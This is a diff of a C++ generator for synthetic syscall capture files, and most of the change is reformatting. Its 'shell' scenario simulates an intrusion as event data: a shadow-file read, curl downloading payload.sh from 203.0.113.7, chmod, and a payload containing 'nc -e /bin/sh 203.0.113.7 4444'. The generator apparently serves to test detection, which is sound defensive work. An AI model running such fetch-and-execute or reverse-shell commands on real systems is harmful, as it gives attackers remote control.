@@ -6,8 +6,8 @@
 #include <string>
 #include <vector>
 
-#include <CLI/CLI.hpp>
 #include <fmt/format.h>
+#include <CLI/CLI.hpp>
 
 #include "saker/scap/error.h"
 #include "saker/scap/writer.h"
@@ -35,15 +35,24 @@ class Emitter {
   void openat(Proc& p, const std::string& path, uint32_t flags, int64_t fd) {
     enter(306, p).num<int64_t>(kAtFdcwd).str(path).num<uint32_t>(flags).num<uint32_t>(0644);
     put();
-    exit(307, p).num<int64_t>(fd).num<int64_t>(kAtFdcwd).str(path).num<uint32_t>(flags).num<uint32_t>(0644)
-        .num<uint32_t>(0x803).num<uint64_t>(1000 + static_cast<uint64_t>(fd));
+    exit(307, p)
+        .num<int64_t>(fd)
+        .num<int64_t>(kAtFdcwd)
+        .str(path)
+        .num<uint32_t>(flags)
+        .num<uint32_t>(0644)
+        .num<uint32_t>(0x803)
+        .num<uint64_t>(1000 + static_cast<uint64_t>(fd));
     put();
   }
   void read(Proc& p, int64_t fd, std::string_view data, uint16_t type = 6) {
     enter(type, p).num<int64_t>(fd).num<uint32_t>(static_cast<uint32_t>(data.size()));
     put();
-    exit(static_cast<uint16_t>(type + 1), p).num<int64_t>(static_cast<int64_t>(data.size()))
-        .bytes(data.data(), data.size()).num<int64_t>(fd).num<uint32_t>(static_cast<uint32_t>(data.size()));
+    exit(static_cast<uint16_t>(type + 1), p)
+        .num<int64_t>(static_cast<int64_t>(data.size()))
+        .bytes(data.data(), data.size())
+        .num<int64_t>(fd)
+        .num<uint32_t>(static_cast<uint32_t>(data.size()));
     put();
   }
   void write(Proc& p, int64_t fd, std::string_view data) { read(p, fd, data, 8); }
@@ -59,12 +68,28 @@ class Emitter {
     put();
     exit(19, p).num<int64_t>(fd).num<uint32_t>(2).num<uint32_t>(1).num<uint32_t>(0).num<uint32_t>(0);
     put();
-    uint8_t addr[7] = {2, remote[0], remote[1], remote[2], remote[3], static_cast<uint8_t>(rport), static_cast<uint8_t>(rport >> 8)};
+    uint8_t addr[7] = {2,
+                       remote[0],
+                       remote[1],
+                       remote[2],
+                       remote[3],
+                       static_cast<uint8_t>(rport),
+                       static_cast<uint8_t>(rport >> 8)};
     enter(22, p).num<int64_t>(fd).bytes(addr, sizeof addr);
     put();
-    uint8_t tuple[13] = {2, local[0], local[1], local[2], local[3], static_cast<uint8_t>(lport),
-                         static_cast<uint8_t>(lport >> 8), remote[0], remote[1], remote[2], remote[3],
-                         static_cast<uint8_t>(rport), static_cast<uint8_t>(rport >> 8)};
+    uint8_t tuple[13] = {2,
+                         local[0],
+                         local[1],
+                         local[2],
+                         local[3],
+                         static_cast<uint8_t>(lport),
+                         static_cast<uint8_t>(lport >> 8),
+                         remote[0],
+                         remote[1],
+                         remote[2],
+                         remote[3],
+                         static_cast<uint8_t>(rport),
+                         static_cast<uint8_t>(rport >> 8)};
     exit(23, p).num<int64_t>(0).bytes(tuple, sizeof tuple).num<int64_t>(fd).bytes(addr, sizeof addr);
     put();
   }
@@ -74,12 +99,25 @@ class Emitter {
     for (int side = 0; side < 2; ++side) {
       const Proc& self = side == 0 ? parent : child;
       auto& b = exit(223, self);
-      b.num<int64_t>(side == 0 ? static_cast<int64_t>(child.pid) : 0).str(parent.exe).bytes(parent.args.data(), parent.args.size())
-          .num<int64_t>(static_cast<int64_t>(self.pid)).num<int64_t>(static_cast<int64_t>(self.pid))
-          .num<int64_t>(static_cast<int64_t>(side == 0 ? parent.ppid : parent.pid)).str(parent.cwd)
-          .num<int64_t>(1024).num<uint64_t>(0).num<uint64_t>(100).num<uint32_t>(8000).num<uint32_t>(3000)
-          .num<uint32_t>(0).str(parent.comm).bytes("cpu=/user.slice\0", 16).num<uint32_t>(0x01000000)
-          .num<uint32_t>(parent.uid).num<uint32_t>(parent.uid).num<int64_t>(static_cast<int64_t>(self.pid))
+      b.num<int64_t>(side == 0 ? static_cast<int64_t>(child.pid) : 0)
+          .str(parent.exe)
+          .bytes(parent.args.data(), parent.args.size())
+          .num<int64_t>(static_cast<int64_t>(self.pid))
+          .num<int64_t>(static_cast<int64_t>(self.pid))
+          .num<int64_t>(static_cast<int64_t>(side == 0 ? parent.ppid : parent.pid))
+          .str(parent.cwd)
+          .num<int64_t>(1024)
+          .num<uint64_t>(0)
+          .num<uint64_t>(100)
+          .num<uint32_t>(8000)
+          .num<uint32_t>(3000)
+          .num<uint32_t>(0)
+          .str(parent.comm)
+          .bytes("cpu=/user.slice\0", 16)
+          .num<uint32_t>(0x01000000)
+          .num<uint32_t>(parent.uid)
+          .num<uint32_t>(parent.uid)
+          .num<int64_t>(static_cast<int64_t>(self.pid))
           .num<int64_t>(static_cast<int64_t>(self.pid));
       put();
     }
@@ -95,14 +133,37 @@ class Emitter {
       p.args += '\0';
     }
     auto& b = exit(293, p);
-    b.num<int64_t>(0).str(p.exe).bytes(p.args.data(), p.args.size()).num<int64_t>(static_cast<int64_t>(p.pid))
-        .num<int64_t>(static_cast<int64_t>(p.pid)).num<int64_t>(static_cast<int64_t>(p.ppid)).str(p.cwd)
-        .num<uint64_t>(1024).num<uint64_t>(0).num<uint64_t>(60).num<uint32_t>(5000).num<uint32_t>(1200)
-        .num<uint32_t>(0).str(p.comm).bytes("cpu=/user.slice\0", 16).bytes("HOME=/root\0PATH=/usr/bin:/bin\0", 30)
-        .num<uint32_t>(34816).num<int64_t>(static_cast<int64_t>(p.pid)).num<uint32_t>(1000).num<uint32_t>(0)
-        .num<uint64_t>(0).num<uint64_t>(0).num<uint64_t>(0).num<uint64_t>(4242).num<uint64_t>(kStart)
-        .num<uint64_t>(kStart).num<uint32_t>(p.uid).str(exe).num<int64_t>(static_cast<int64_t>(p.pid))
-        .num<uint32_t>(p.uid).str(exe);
+    b.num<int64_t>(0)
+        .str(p.exe)
+        .bytes(p.args.data(), p.args.size())
+        .num<int64_t>(static_cast<int64_t>(p.pid))
+        .num<int64_t>(static_cast<int64_t>(p.pid))
+        .num<int64_t>(static_cast<int64_t>(p.ppid))
+        .str(p.cwd)
+        .num<uint64_t>(1024)
+        .num<uint64_t>(0)
+        .num<uint64_t>(60)
+        .num<uint32_t>(5000)
+        .num<uint32_t>(1200)
+        .num<uint32_t>(0)
+        .str(p.comm)
+        .bytes("cpu=/user.slice\0", 16)
+        .bytes("HOME=/root\0PATH=/usr/bin:/bin\0", 30)
+        .num<uint32_t>(34816)
+        .num<int64_t>(static_cast<int64_t>(p.pid))
+        .num<uint32_t>(1000)
+        .num<uint32_t>(0)
+        .num<uint64_t>(0)
+        .num<uint64_t>(0)
+        .num<uint64_t>(0)
+        .num<uint64_t>(4242)
+        .num<uint64_t>(kStart)
+        .num<uint64_t>(kStart)
+        .num<uint32_t>(p.uid)
+        .str(exe)
+        .num<int64_t>(static_cast<int64_t>(p.pid))
+        .num<uint32_t>(p.uid)
+        .str(exe);
     put();
   }
   void chmod(Proc& p, const std::string& path, uint32_t mode) {
@@ -222,17 +283,20 @@ void shell_scenario(Writer& w) {
     e.write(p, 1, "root:$6$Zk3...:19000:0:99999:7:::\n");
     e.close(p, 3);
   });
-  run("/usr/bin/curl", {"curl", "-s", "http://203.0.113.7/payload.sh", "-o", "/tmp/payload.sh"}, [&](Proc& p) {
-    const uint8_t remote[4] = {203, 0, 113, 7};
-    e.socket_connect(p, 3, local, 51514, remote, 80);
-    e.write(p, 3, "GET /payload.sh HTTP/1.1\r\nHost: 203.0.113.7\r\nUser-Agent: curl/7.88.1\r\n\r\n");
-    e.read(p, 3, "HTTP/1.1 200 OK\r\nContent-Length: 42\r\n\r\n#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444\n");
-    e.openat(p, "/tmp/payload.sh", 2 | 4 | (1 << 8), 4);
-    e.write(p, 4, "#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444\n");
-    e.close(p, 4);
-    e.close(p, 3);
-  });
-  run("/usr/bin/chmod", {"chmod", "+x", "/tmp/payload.sh"}, [&](Proc& p) { e.chmod(p, "/tmp/payload.sh", 0755); });
+  run("/usr/bin/curl", {"curl", "-s", "http://203.0.113.7/payload.sh", "-o", "/tmp/payload.sh"},
+      [&](Proc& p) {
+        const uint8_t remote[4] = {203, 0, 113, 7};
+        e.socket_connect(p, 3, local, 51514, remote, 80);
+        e.write(p, 3, "GET /payload.sh HTTP/1.1\r\nHost: 203.0.113.7\r\nUser-Agent: curl/7.88.1\r\n\r\n");
+        e.read(p, 3,
+               "HTTP/1.1 200 OK\r\nContent-Length: 42\r\n\r\n#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444\n");
+        e.openat(p, "/tmp/payload.sh", 2 | 4 | (1 << 8), 4);
+        e.write(p, 4, "#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444\n");
+        e.close(p, 4);
+        e.close(p, 3);
+      });
+  run("/usr/bin/chmod", {"chmod", "+x", "/tmp/payload.sh"},
+      [&](Proc& p) { e.chmod(p, "/tmp/payload.sh", 0755); });
   run("/tmp/payload.sh", {"/tmp/payload.sh"}, [&](Proc& p) {
     const uint8_t remote[4] = {203, 0, 113, 7};
     e.socket_connect(p, 3, local, 40022, remote, 4444);
@@ -255,11 +319,12 @@ void load_scenario(Writer& w, uint64_t target, uint64_t seed) {
   std::mt19937_64 rng(seed);
   std::vector<Proc> procs;
   for (uint64_t i = 0; i < 256; ++i)
-    procs.push_back({1000 + i, 1, fmt::format("worker{}", i % 16), "/usr/bin/worker", std::string("--serve\0", 8), "/srv", 33});
+    procs.push_back({1000 + i, 1, fmt::format("worker{}", i % 16), "/usr/bin/worker",
+                     std::string("--serve\0", 8), "/srv", 33});
   w.begin_section(base_metadata(procs));
   Emitter e(w, 4);
-  const std::vector<std::string> paths = {"/etc/hosts", "/var/log/app.log", "/srv/data/index.db", "/usr/lib/libc.so.6",
-                                          "/tmp/cache.bin", "/proc/self/status"};
+  const std::vector<std::string> paths = {"/etc/hosts",         "/var/log/app.log", "/srv/data/index.db",
+                                          "/usr/lib/libc.so.6", "/tmp/cache.bin",   "/proc/self/status"};
   std::string payload(512, 'x');
   for (size_t i = 0; i < payload.size(); ++i) payload[i] = static_cast<char>('a' + i % 26);
   const uint8_t local[4] = {10, 0, 0, 5};
@@ -309,11 +374,14 @@ int main(int argc, char** argv) {
   app.add_option("--scenario", scenario, "load or shell")->check(CLI::IsMember({"load", "shell"}));
   app.add_option("--events", events, "Events to write (load scenario)");
   app.add_option("--seed", seed, "Random seed (load scenario)");
-  app.add_option("--compress", compression, "none, gzip or zstd")->check(CLI::IsMember({"none", "gzip", "zstd"}));
+  app.add_option("--compress", compression, "none, gzip or zstd")
+      ->check(CLI::IsMember({"none", "gzip", "zstd"}));
   CLI11_PARSE(app, argc, argv);
   try {
     WriterOptions o;
-    o.compression = compression == "gzip" ? Compression::Gzip : compression == "zstd" ? Compression::Zstd : Compression::None;
+    o.compression = compression == "gzip"   ? Compression::Gzip
+                    : compression == "zstd" ? Compression::Zstd
+                                            : Compression::None;
     Writer w(out, o);
     if (scenario == "shell")
       shell_scenario(w);
